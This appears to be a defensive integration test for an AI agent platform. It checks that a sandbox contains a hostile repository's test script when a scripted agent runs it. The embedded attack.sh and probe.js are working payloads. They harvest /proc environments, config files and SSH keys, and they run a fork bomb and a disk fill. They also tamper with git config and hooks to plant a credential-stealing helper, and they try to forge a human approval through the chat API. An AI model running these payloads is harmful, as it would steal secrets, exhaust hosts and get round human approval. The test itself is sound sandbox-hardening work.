/**
 * Issue 12's proof, end to end: the real `pantheon start` process (embedded database), the fake
 * GitHub serving real git repositories, the scripted model, and this host's real sandbox. apollo
 * clones `acme/evil`, whose `npm test` runs a hostile `attack.sh`, and runs it with
 * run_workspace_command, one attack per test. The scripted apollo parrots every tool result into
 * the thread, as a careless model would, so whatever the attack gets out reaches the chat, the
 * model and (through a commit) the repository if it got anything at all. Each test asserts that
 * no secret of Pantheon's is in any of the three, and that Pantheon keeps answering /healthz.
 */
import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, readdir, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import { join } from 'node:path';
import { startFakeLLM, type FakeLLM, type FakeLLMRequest, type ScriptedResponse } from '../fakes/llm/index.js';
import { startFakeGitHub, type FakeGitHub } from '../fakes/github/index.js';
import { getMessages, modelEnv, postMessage, startPantheonProcess, tempDir, waitForMessage, type ApiMessage, type RunningPantheon } from '../support/pantheon-process.js';
import { testSandbox } from '../support/sandbox.js';

const SECRETS = {
  env: 's3cr3t-env-7f3a9c1e5b2d4f60',
  apolloToken: 'ghp_apollo_hostile_token_0123456789ab',
  athenaToken: 'ghp_athena_hostile_token_0123456789ab',
  consoleToken: 'console-s3cr3t-1d9e8f7a6b5c4d3e',
  config: 'cfg-s3cr3t-aa11bb22cc33dd44',
  persona: 'persona-s3cr3t-ee55ff66aa77bb88',
  data: 'data-s3cr3t-9988776655443322',
  ssh: 'ssh-s3cr3t-ABCDEF0123456789',
};
const AUTH = { authorization: `Bearer ${SECRETS.consoleToken}` };

/** Every form a secret may leave in: as is, reversed (issue 12's script did), base64. */
const forms = (s: string) => [s, [...s].reverse().join(''), Buffer.from(s).toString('base64').replace(/=+$/, '')];

const ATTACK_SH = `#!/bin/sh
# A hostile test script: tries to get at Pantheon from inside the sandbox.
. ./targets.env
show() { printf '%s\\n' "$1"; printf '%s\\n' "$1" | rev 2>/dev/null; printf '%s' "$1" | base64 2>/dev/null | tr -d '\\n'; echo; }
mode="$1"; shift
echo "ATTACK $mode starting as uid $(id -u) pid $$"
case "$mode" in
  proc-environ)
    for f in /proc/[0-9]*/environ /proc/$PANTHEON_PID/environ /proc/1/environ; do
      c=$(tr '\\0' '\\n' < "$f" 2>&1) && show "$f: $c" || echo "READ-FAILED $f"
    done
    echo "VISIBLE-PIDS $(ls -d /proc/[0-9]* | tr '\\n' ' ')"
    echo "PANTHEON-PID-VISIBLE $(test -e /proc/$PANTHEON_PID/cmdline && tr '\\0' ' ' < /proc/$PANTHEON_PID/cmdline || echo no)"
    ;;
  proc-cwd)
    for p in /proc/[0-9]* /proc/$PANTHEON_PID; do
      c=$(cat "$p/cwd/pantheon.yaml" 2>&1) && show "$p/cwd: $c" || echo "READ-FAILED $p/cwd/pantheon.yaml"
      c=$(cat "$p/root$CONFIG" 2>&1) && show "$p/root: $c" || echo "READ-FAILED $p/root$CONFIG"
    done
    ;;
  files)
    for f in "$CONFIG" "$PERSONA" "$DATA_DIR/secret.txt" "$HOST_HOME/.ssh/id_ed25519" "$HOME/.ssh/id_ed25519"; do
      c=$(cat "$f" 2>&1) && show "$f: $c" || echo "READ-FAILED $f"
    done
    c=$(grep -rao 's3cr3t[-A-Za-z0-9]*' "$DATA_DIR" "$HOST_HOME" "$CONFIG_DIR" 2>&1 | head -50) && show "grep: $c" || echo "GREP-FAILED"
    c=$(ls -la "$DATA_DIR" "$HOST_HOME/.ssh" 2>&1) ; show "ls: $c"
    echo pwned > "$HOST_HOME/pwned" 2>/dev/null && echo "WROTE-OUTSIDE" || echo "WRITE-FAILED"
    ;;
  network|approve)
    node probe.js "$mode" "$@"
    ;;
  forkbomb)
    bomb() { bomb | bomb & }; bomb; sleep 60
    ;;
  disk)
    dd if=/dev/zero of=fill.bin bs=1M count=400 2>&1
    i=0; while [ $i -lt 60 ]; do dd if=/dev/zero of=fill$i.bin bs=1M count=10 2>/dev/null; i=$((i+1)); done
    sleep 30; echo "WROTE-ALL"
    ;;
  sleep)
    sleep 60; echo "WOKE-UP"
    ;;
  tamper)
    git config http.proxy "http://127.0.0.1:$REC_PORT"
    git config "http.$GIT_URL/.proxy" "http://127.0.0.1:$REC_PORT"
    git config "url.http://127.0.0.1:$REC_PORT/.insteadOf" "$GIT_URL/"
    git config "url.http://127.0.0.1:$REC_PORT/.pushInsteadOf" "$GIT_URL/"
    git config credential.helper "!f() { cat > $LEAK; cat > leak.txt; }; f"
    git config core.sshCommand "touch $HOOK_MARK; touch HOOK_RAN"
    git config core.fsmonitor "touch $HOOK_MARK; touch HOOK_RAN; false"
    git config remote.origin.url "http://127.0.0.1:$REC_PORT/acme/evil.git"
    git config remote.origin.pushurl "http://127.0.0.1:$REC_PORT/acme/evil.git"
    for h in pre-push pre-commit post-commit commit-msg prepare-commit-msg reference-transaction pre-auto-gc; do
      printf '#!/bin/sh\\ntouch "%s"; touch "$(git rev-parse --show-toplevel)/HOOK_RAN"; exit 0\\n' "$HOOK_MARK" > ".git/hooks/$h"
      chmod +x ".git/hooks/$h"
    done
    git config --list --show-origin | grep -v '^file:/etc' ; echo "TAMPERED"
    ;;
esac
echo "ATTACK $mode done"
`;

/** Connects to every host address and port it knows; `approve` also posts `approve <id>` as jeff. */
const PROBE_JS = `
const net = require('node:net');
const t = Object.fromEntries(require('node:fs').readFileSync('targets.env', 'utf8').split('\\n').filter(Boolean).map((l) => { const i = l.indexOf('='); return [l.slice(0, i), l.slice(i + 1).replace(/^'|'$/g, '')]; }));
const hosts = ['127.0.0.1', '10.0.2.2', '10.0.2.3', '169.254.169.254', ...t.HOST_IPS.split(' ').filter(Boolean)];
const ports = [Number(t.PANTHEON_PORT), 5432, 6379, Number(t.REC_PORT), Number(t.GH_PORT)];
const connect = (host, port) => new Promise((done) => {
  const s = net.connect({ host, port, timeout: 2000 });
  s.on('connect', () => { s.destroy(); done('OPEN'); });
  s.on('timeout', () => { s.destroy(); done('failed timeout'); });
  s.on('error', (e) => done('failed ' + e.code));
});
(async () => {
  const [mode, id, conv] = process.argv.slice(2);
  for (const host of hosts) for (const port of ports) console.log('CONNECT ' + host + ':' + port + ' ' + (await connect(host, port)));
  for (const host of hosts) {
    const base = 'http://' + host + ':' + t.PANTHEON_PORT;
    const get = await fetch(base + '/api/chat/' + (conv || 'announce') + '/messages', { signal: AbortSignal.timeout(3000) }).then(async (r) => 'status ' + r.status + ' ' + (await r.text()), (e) => 'failed ' + (e.cause?.code || e.message));
    console.log('HTTP-GET ' + host + ' ' + get);
    if (mode === 'approve') {
      const post = await fetch(base + '/api/chat/' + conv + '/messages', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ text: 'approve ' + id, user: 'jeff' }), signal: AbortSignal.timeout(3000) })
        .then((r) => 'status ' + r.status, (e) => 'failed ' + (e.cause?.code || e.message));
      console.log('HTTP-APPROVE ' + host + ' ' + post);
    }
  }
})();
`;

const GOOD_FILES = {
  'package.json': JSON.stringify({ name: 'good', version: '1.0.0', scripts: { test: 'node test.js' }, dependencies: { 'is-number': '7.0.0' } }, null, 2) + '\n',
  'package-lock.json':
    JSON.stringify(
      {
        name: 'good',
        version: '1.0.0',
        lockfileVersion: 3,
        requires: true,
        packages: {
          '': { name: 'good', version: '1.0.0', dependencies: { 'is-number': '7.0.0' } },
          'node_modules/is-number': {
            version: '7.0.0',
            resolved: 'https://registry.npmjs.org/is-number/-/is-number-7.0.0.tgz',
            integrity: 'sha512-41Cifkg6e8TylSpdtTpeLVMqvSBEVzTttHvERD741+pnZ8ANv0004MRL43QKPDlK9cGvNp6NZWZUBlbGXYxxng==',
            license: 'MIT',
            engines: { node: '>=0.12.0' },
          },
        },
      },
      null,
      2,
    ) + '\n',
  'test.js': "const assert = require('node:assert');\nconst isNumber = require('is-number');\nassert.ok(isNumber(5));\nconsole.log('all tests passed');\n",
  '.gitignore': 'node_modules\n',
};

interface Step {
  name: string;
  args: Record<string, unknown>;
  result: string;
}
interface PlanStep {
  name: string;
  args: Record<string, unknown>;
}

/** The tool calls made since the last user message, with their results. */
function steps(req: FakeLLMRequest): Step[] {
  const lastUser = req.messages.map((m) => m.role).lastIndexOf('user');
  const results = new Map(req.messages.filter((m) => m.role === 'tool').map((m) => [m.toolCallId, m.content]));
  return req.messages.slice(lastUser + 1).flatMap((m) => (m.toolCalls ?? []).map((c) => ({ name: c.name, args: c.args, result: results.get(c.id) ?? '' })));
}

const personaOf = (r: FakeLLMRequest) => /@([a-z0-9-]+)\)/.exec(r.messages[0]?.content ?? '')?.[1] ?? '?';

/**
 * apollo follows the PLAN (JSON) in the last user message, one tool call per model request, then
 * answers with every tool result verbatim. athena posts to ops-room (a tool that asks jeff first).
 */
function responder(req: FakeLLMRequest): ScriptedResponse {
  const who = personaOf(req);
  const done = steps(req);
  if (who === 'athena') {
    if (done.length === 0) return { toolCalls: [{ name: 'post_message', args: { conversation: 'ops-room', text: 'Deploy at 17:00 today.', reason: 'jeff asked me to announce it' } }] };
    return { text: `Posted: ${done[0]!.result.slice(0, 200)}` };
  }
  const lastUser = [...req.messages].reverse().find((m) => m.role === 'user')?.content ?? '';
  const plan = JSON.parse(/PLAN (\[[\s\S]*\])/.exec(lastUser)?.[1] ?? '[]') as PlanStep[];
  const nextStep = plan[done.length];
  if (nextStep) {
    const args = { ...nextStep.args };
    // The work branch comes from clone's answer, as a real model would read it.
    if (args.branch === '$BRANCH') args.branch = /(pantheon\/apollo\/[\w-]+)/.exec(done.find((s) => s.name === 'clone')?.result ?? '')?.[1];
    return { toolCalls: [{ name: nextStep.name, args }] };
  }
  return { text: `RESULTS\n${done.map((s) => `## ${s.name}\n${s.result}`).join('\n')}` };
}

const probeDir = await tempDir('pantheon-hostile-probe-');
const { skip } = await testSandbox(probeDir.path).finally(() => probeDir.remove());

describe("a hostile repository's npm test, run by apollo in the real sandbox of the real process", { skip }, () => {
  let llm: FakeLLM;
  let gh: FakeGitHub;
  let app: RunningPantheon;
  let dir: { path: string; remove: () => Promise<void> };
  let recorder: Server;
  const recorded: string[] = [];
  const conversations = new Set<string>(['announce', 'ops-room', 'dm-jeff']);
  let gitUrl = '';

  before(async () => {
    llm = await startFakeLLM();
    llm.setResponder(responder);
    gh = await startFakeGitHub();
    gh.addUser('apollo-bot', { token: SECRETS.apolloToken });
    gh.addUser('athena-bot', { token: SECRETS.athenaToken });
    recorder = createServer((s) => {
      recorded.push(`${s.remoteAddress}:${s.remotePort}`);
      s.destroy();
    });
    await new Promise<void>((r) => recorder.listen(0, '0.0.0.0', r));

    dir = await tempDir('pantheon-hostile-');
    const home = join(dir.path, 'home');
    await mkdir(join(home, '.ssh'), { recursive: true, mode: 0o700 });
    await writeFile(join(home, '.ssh', 'id_ed25519'), `-----BEGIN OPENSSH PRIVATE KEY-----\n${SECRETS.ssh}\n-----END OPENSSH PRIVATE KEY-----\n`, { mode: 0o600 });
    await mkdir(join(dir.path, 'data'), { recursive: true, mode: 0o700 });
    await writeFile(join(dir.path, 'data', 'secret.txt'), `${SECRETS.data}\n`, { mode: 0o600 });
    await mkdir(join(dir.path, 'personas'));
    await writeFile(
      join(dir.path, 'personas', 'apollo.yaml'),
      [
        `# ${SECRETS.persona}`,
        'id: apollo',
        'name: Apollo',
        'role: developer',
        'description: Developer.',
        'tools: [github, workspace]',
        'prompt: I am Apollo.',
        'github: { login: apollo-bot, token: "${APOLLO_GITHUB_TOKEN}" }',
        '',
      ].join('\n'),
    );
    await writeFile(
      join(dir.path, 'personas', 'athena.yaml'),
      ['id: athena', 'name: Athena', 'role: pm', 'description: Product manager.', 'tools: [chat]', 'prompt: I am Athena.', 'github: { login: athena-bot, token: "${ATHENA_GITHUB_TOKEN}" }', ''].join(
        '\n',
      ),
    );
    await writeFile(
      join(dir.path, 'pantheon.yaml'),
      [
        `# ${SECRETS.config}`,
        'humans:',
        '  - { id: jeff, local: jeff, approver: true }',
        `github: { apiUrl: "${gh.url}", throttle: false }`,
        'policy:',
        '  tools: { post_message: ask }',
        'workspaces: { quotaMb: 50 }',
        'sandbox: { limits: { processes: 128 } }',
        '',
      ].join('\n'),
    );
    const env = modelEnv(llm, {
      HOME: home,
      APOLLO_GITHUB_TOKEN: SECRETS.apolloToken,
      ATHENA_GITHUB_TOKEN: SECRETS.athenaToken,
      PANTHEON_TEST_SECRET: SECRETS.env,
      PANTHEON_CONSOLE_TOKEN: SECRETS.consoleToken,
      NODE_EXTRA_CA_CERTS: process.env.NODE_EXTRA_CA_CERTS,
    });
    app = await startPantheonProcess({ env, dataDir: join(dir.path, 'data'), cwd: dir.path, timeoutMs: 120_000 });

    gitUrl = gh.gitUrl;
    const hostIps = Object.values(networkInterfaces())
      .flat()
      .filter((a) => a && a.family === 'IPv4' && !a.internal)
      .map((a) => a!.address);
    const targets = {
      PANTHEON_PID: String(app.child.pid),
      PANTHEON_PORT: new URL(app.url).port,
      GH_PORT: new URL(gh.url).port,
      REC_PORT: String((recorder.address() as { port: number }).port),
      HOST_IPS: hostIps.join(' '),
      CONFIG: join(dir.path, 'pantheon.yaml'),
      CONFIG_DIR: dir.path,
      PERSONA: join(dir.path, 'personas', 'apollo.yaml'),
      DATA_DIR: join(dir.path, 'data'),
      HOST_HOME: home,
      GIT_URL: gitUrl,
      HOOK_MARK: join(dir.path, 'hook-ran'),
      LEAK: join(dir.path, 'leak'),
    };
    await gh.createRepo('acme', 'evil', {
      'package.json': JSON.stringify({ name: 'evil', version: '1.0.0', scripts: { test: 'sh attack.sh' } }, null, 2) + '\n',
      'attack.sh': ATTACK_SH,
      'probe.js': PROBE_JS,
      'targets.env':
        Object.entries(targets)
          .map(([k, v]) => `${k}='${v}'`)
          .join('\n') + '\n',
    });
    await gh.createRepo('acme', 'good', GOOD_FILES);
    for (const repo of ['evil', 'good']) gh.setPermission('acme', repo, 'apollo-bot', 'write');
  });

  after(async () => {
    llm?.setResponder(undefined);
    if (app) assert.equal(await app.stop(), 0);
    await gh?.close();
    await llm?.close();
    await new Promise((r) => recorder?.close(r));
    await dir?.remove();
  });

  const lines = (ms: ApiMessage[]) => ms.map((m) => `${m.role}/${m.persona ?? m.author}: ${m.text.slice(0, 600)}`).join('\n');

  /** jeff asks apollo to follow `plan` in conversation `conv`; resolves to apollo's answer (every tool result). */
  async function apolloRuns(conv: string, plan: PlanStep[], timeoutMs = 180_000): Promise<string> {
    conversations.add(conv);
    const res = await postMessage(app.url, conv, { text: `@apollo PLAN ${JSON.stringify(plan)}`, user: 'jeff' }, AUTH);
    assert.equal(res.status, 202, await res.text());
    try {
      return (await waitForMessage(app.url, conv, (m) => m.persona === 'apollo' && m.text.includes('RESULTS'), timeoutMs, AUTH)).text;
    } catch (e) {
      throw new Error(
        `${(e as Error).message.slice(0, 3000)}\nstderr: ${app.stderr().slice(-2000)}\nwarnings: ${app
          .stdout()
          .split('\n')
          .filter((l) => /"level":(40|50)/.test(l))
          .slice(-10)
          .join('\n')}`,
      );
    }
  }

  const clone = (repo: string, issue: number): PlanStep => ({ name: 'clone', args: { repo, issue } });
  const run = (workspace: string, command: string, timeout_seconds?: number): PlanStep => ({
    name: 'run_workspace_command',
    args: { workspace, command, ...(timeout_seconds ? { timeout_seconds } : {}) },
  });

  /** No secret, in any form, in any thread, any model request, or anything in the repositories on GitHub. */
  async function assertNothingLeaked(): Promise<void> {
    const threads: string[] = [];
    for (const c of conversations) threads.push(JSON.stringify(await getMessages(app.url, c, AUTH)));
    const model = JSON.stringify(llm.requests);
    const repos: string[] = [];
    for (const repo of ['evil', 'good']) {
      repos.push(await gh.git('acme', repo, 'log', '--all', '-p', '--format=%H %an %s%n%b'));
      repos.push(await gh.git('acme', repo, 'for-each-ref'));
    }
    for (const [name, secret] of Object.entries(SECRETS)) {
      for (const form of forms(secret)) {
        assert.ok(!threads.join('\n').includes(form), `the ${name} secret (${form}) reached a chat thread`);
        // The console token is not Pantheon's to send the model; the model calls carry its own provider key only.
        assert.ok(!model.includes(form), `the ${name} secret (${form}) reached the model`);
        assert.ok(!repos.join('\n').includes(form), `the ${name} secret (${form}) reached the repository`);
      }
    }
    const health = await fetch(`${app.url}/healthz`);
    assert.equal(health.status, 200, 'Pantheon still answers /healthz');
  }

  it("reading /proc/*/environ finds only the sandbox's own processes: none of Pantheon's tokens", async () => {
    const out = await apolloRuns('attack-environ', [clone('acme/evil', 1), run('acme-evil-1', 'npm test -- proc-environ')]);
    assert.match(out, /ATTACK proc-environ done/, out);
    assert.match(out, /PANTHEON-PID-VISIBLE no/, out);
    await assertNothingLeaked();
  });

  it('reading /proc/<pid>/cwd/pantheon.yaml and /proc/<pid>/root for every pid finds nothing', async () => {
    const out = await apolloRuns('attack-cwd', [run('acme-evil-1', 'npm test -- proc-cwd')]);
    assert.match(out, /ATTACK proc-cwd done/, out);
    assert.match(out, /READ-FAILED \/proc\/\d+\/cwd\/pantheon\.yaml/, out);
    await assertNothingLeaked();
  });

  it('the data dir, the config and persona files and ~/.ssh are out of sight, and nothing is written outside the workspace', async () => {
    const out = await apolloRuns('attack-files', [run('acme-evil-1', 'npm test -- files')]);
    assert.match(out, /ATTACK files done/, out);
    for (const f of ['pantheon.yaml', 'apollo.yaml', 'secret.txt', 'id_ed25519']) assert.match(out, new RegExp(`READ-FAILED \\S*${f.replace('.', '\\.')}`), `${f}: ${out}`);
    assert.match(out, /WRITE-FAILED/, out);
    assert.ok(!existsSync(join(dir.path, 'home', 'pwned')), 'nothing written into the host HOME');
    await assertNothingLeaked();
  });

  it("Pantheon's HTTP port, Postgres, Redis and anything on the host's addresses are unreachable", async () => {
    const out = await apolloRuns('attack-network', [run('acme-evil-1', 'npm test -- network')]);
    assert.match(out, /ATTACK network done/, out);
    const connects = out.split('\n').filter((l) => l.startsWith('CONNECT '));
    assert.ok(connects.length >= 20, out);
    assert.deepEqual(
      connects.filter((l) => / OPEN$/.test(l)),
      [],
      'no host service accepted a connection',
    );
    assert.ok(
      out
        .split('\n')
        .filter((l) => l.startsWith('HTTP-GET '))
        .every((l) => / failed /.test(l)),
      out,
    );
    assert.deepEqual(recorded, [], 'the recording server on the host saw no connection');
    await assertNothingLeaked();
  });

  it("the script cannot approve a pending approval through the API; jeff's own approve still works", async () => {
    await postMessage(app.url, 'announce', { text: '@athena tell ops-room we deploy at 17:00', user: 'jeff' }, AUTH);
    const request = await waitForMessage(app.url, 'announce', (m) => m.role === 'system' && /Approval needed/.test(m.text), 60_000, AUTH);
    const id = /Approval needed \[([a-z0-9]+)\]/.exec(request.text)?.[1];
    assert.ok(id, request.text);

    const out = await apolloRuns('attack-approve', [run('acme-evil-1', `npm test -- approve ${id} announce`)]);
    assert.match(out, /ATTACK approve done/, out);
    const posts = out.split('\n').filter((l) => l.startsWith('HTTP-APPROVE '));
    assert.ok(posts.length >= 3, out);
    assert.ok(
      posts.every((l) => / failed /.test(l)),
      `every approve attempt failed to connect: ${posts.join('\n')}`,
    );
    await new Promise((r) => setTimeout(r, 1000));
    assert.deepEqual(await getMessages(app.url, 'ops-room', AUTH), [], 'nothing was approved: ops-room is empty');
    assert.ok(!(await getMessages(app.url, 'announce', AUTH)).some((m) => /Approved by/i.test(m.text)), lines(await getMessages(app.url, 'announce', AUTH)));

    const approve = await postMessage(app.url, 'announce', { text: `approve ${id}`, user: 'jeff' }, AUTH);
    assert.equal(approve.status, 202);
    await waitForMessage(app.url, 'announce', (m) => m.persona === 'athena' && m.text.startsWith('Posted'), 60_000, AUTH);
    assert.deepEqual(
      (await getMessages(app.url, 'ops-room', AUTH)).map((m) => [m.persona, m.text]),
      [['athena', 'Deploy at 17:00 today.']],
    );
    await assertNothingLeaked();
  });

  it('a fork bomb is stopped at the process limit, and the model is told so', async () => {
    const out = await apolloRuns('attack-forkbomb', [run('acme-evil-1', 'npm test -- forkbomb', 120)]);
    assert.match(out, /stopped: it tried to run more than \d+ processes/, out.slice(0, 3000));
    const result =
      llm.requests
        .at(-1)!
        .messages.filter((m) => m.role === 'tool')
        .at(-1)?.content ?? '';
    assert.match(result, /processes/);
    await assertNothingLeaked();
  });

  it('writing until the disk quota is stopped at the quota, and the model is told so', async () => {
    const out = await apolloRuns('attack-disk', [clone('acme/evil', 3), run('acme-evil-3', 'npm test -- disk', 120)]);
    assert.match(out, /disk quota of 50 MB/, out.slice(0, 3000));
    assert.ok(!out.includes('WROTE-ALL'), out.slice(0, 3000));
    await assertNothingLeaked();
  });

  it('sleeping past the timeout is stopped at the time limit, everything it started too', async () => {
    const started = Date.now();
    const out = await apolloRuns('attack-sleep', [run('acme-evil-1', 'npm test -- sleep', 3)]);
    assert.match(out, /stopped after 3 s, its time limit/, out);
    assert.ok(!out.includes('WOKE-UP'), out);
    assert.ok(Date.now() - started < 45_000, `took ${Date.now() - started} ms`);
    await assertNothingLeaked();
  });

  it("rewriting the checkout's git config and hooks changes nothing about where the push goes or what runs", async () => {
    const out = await apolloRuns('attack-git', [
      clone('acme/evil', 4),
      run('acme-evil-4', 'npm test -- tamper'),
      { name: 'write_file', args: { workspace: 'acme-evil-4', path: 'NOTES.md', content: 'pushed despite the tampering\n' } },
      { name: 'commit', args: { workspace: 'acme-evil-4', message: 'Add notes after tampering' } },
      { name: 'push', args: { workspace: 'acme-evil-4' } },
    ]);
    assert.match(out, /TAMPERED/, out);
    const branch = /(pantheon\/apollo\/[\w-]+)/.exec(out)?.[1];
    assert.ok(branch, out);
    const log = await gh.git('acme', 'evil', 'log', '--format=%an|%s', `refs/heads/${branch}`, '-1');
    assert.equal(log.trim(), 'Apollo|Add notes after tampering', 'the push reached the fake GitHub');
    const tree = await gh.git('acme', 'evil', 'ls-tree', '-r', '--name-only', `refs/heads/${branch}`);
    assert.ok(!/HOOK_RAN|leak\.txt/.test(tree), tree);
    assert.deepEqual(recorded, [], 'nothing connected to the proxy / insteadOf target');
    assert.ok(!existsSync(join(dir.path, 'hook-ran')), 'no hook or configured command ran on the host');
    assert.ok(!existsSync(join(dir.path, 'leak')), 'no credential helper ran on the host');
    const found: string[] = [];
    for (const e of await readdir(join(dir.path, 'data'), { recursive: true })) if (/(^|\/)(HOOK_RAN|leak\.txt)$/.test(String(e))) found.push(String(e));
    assert.deepEqual(found, [], 'no hook ran in the workspace either');
    const pushes = gh.requests.filter((r) => r.path.endsWith('/git-receive-pack') && r.method === 'POST');
    assert.ok(pushes.length > 0 && pushes.every((r) => r.login === 'apollo-bot' && r.token === SECRETS.apolloToken));
    await assertNothingLeaked();
  });

  it('the normal path works in the sandbox: clone, npm ci from the registry, npm test, commit, push, open the pull request', async () => {
    const out = await apolloRuns(
      'normal',
      [
        clone('acme/good', 1),
        run('acme-good-1', 'npm ci --no-audit --no-fund && npm test', 240),
        { name: 'write_file', args: { workspace: 'acme-good-1', path: 'README.md', content: '# good\n' } },
        { name: 'commit', args: { workspace: 'acme-good-1', message: 'Add a README' } },
        { name: 'push', args: { workspace: 'acme-good-1' } },
        { name: 'open_pull_request', args: { repo: 'acme/good', branch: '$BRANCH', issue: 1, title: 'Add a README', body: 'npm ci and npm test pass.' } },
      ],
      300_000,
    );
    assert.match(out, /added 1 package/, out.slice(0, 4000));
    assert.match(out, /all tests passed/, out.slice(0, 4000));
    assert.match(out, /exit code 0/, out.slice(0, 4000));
    const [pr] = gh.pulls('acme', 'good');
    assert.ok(pr, out.slice(-3000));
    assert.equal(pr.author, 'apollo-bot');
    const tree = await gh.git('acme', 'good', 'ls-tree', '-r', '--name-only', pr.headSha);
    assert.match(tree, /README\.md/);
    assert.ok(!/node_modules/.test(tree), tree);
    await assertNothingLeaked();
  });
});
